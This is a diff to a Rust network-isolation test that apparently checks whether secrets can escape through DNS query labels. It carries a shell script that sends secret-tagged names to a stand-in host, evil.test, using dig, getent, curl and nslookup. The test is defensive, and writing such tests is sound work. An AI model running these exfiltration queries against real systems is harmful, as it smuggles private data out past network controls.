@@ -34,11 +34,12 @@ say(lookup(asked("plain.{name}")))
 fn data_does_not_leave_in_the_labels_of_questions() {
     let Some(net) = net() else { return };
     let (name, mark) = (net.internet.name("web"), net.internet.mark().to_owned());
+    // One dig asks for everything: starting a program costs more than asking.
     let script = |server: &str| {
         format!(
             "for name in secret{mark}.evil.test secret{mark}.{name} {mark}secret.{name}.evil.test; do \
-             for kind in A AAAA TXT NULL MX CNAME HTTPS ANY; do \
-             dig +tries=1 +time=2 $name $kind {server}; dig +tcp +tries=1 +time=2 $name $kind {server}; done; \
+             for how in +notcp +tcp; do dig {server} +tries=1 +time=2 $how $name A $name AAAA $name TXT $name NULL \
+             $name MX $name CNAME $name HTTPS; done; \
              getent hosts $name; curl -s -m 3 http://$name/; busybox nslookup $name; done > /dev/null 2>&1; exit 0"
         )
     };
